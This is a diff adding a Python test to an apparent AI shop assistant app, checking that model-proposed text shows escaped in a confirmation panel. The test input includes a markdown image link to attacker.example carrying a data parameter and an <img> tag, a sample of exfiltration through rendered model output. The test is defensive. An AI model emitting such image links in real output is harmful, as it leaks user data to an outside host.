@@ -77,6 +77,16 @@ def test_the_conversation_comes_from_the_pages_history_without_the_tool_lines():
     assert app.conversation([{"role": "user", "content": [{"type": "file", "file": {"path": "a.png"}}]}]) == []
 
 
+def test_what_the_model_wrote_shows_in_the_confirm_panel_as_text(tmp_path):
+    connection = db.connect(db.create(tmp_path / "shop.db"))
+    session = CustomerSession(connection, db.DEMO_CUSTOMER)
+    session.propose("Open a ticket: ![ok](https://attacker.example/p?d=1) <img src=x>", dict)
+    session.propose("Open a second ticket", dict)
+    panel, confirm, cancel = app.pending_panel(app.Visit(session, assistant=None))
+    assert "\\!\\[ok\\]\\(https" in panel["value"] and "\\<img" in panel["value"]  # escaped: shown, not loaded
+    assert "(1 of 2)" in panel["value"] and "(2 of 2)" in panel["value"] and confirm["visible"]
+
+
 def test_each_session_has_limits_and_its_state_is_freed(tmp_path):
     connection = db.connect(db.create(tmp_path / "shop.db"))
     visit = app.Visit(CustomerSession(connection, db.DEMO_CUSTOMER), assistant=None)
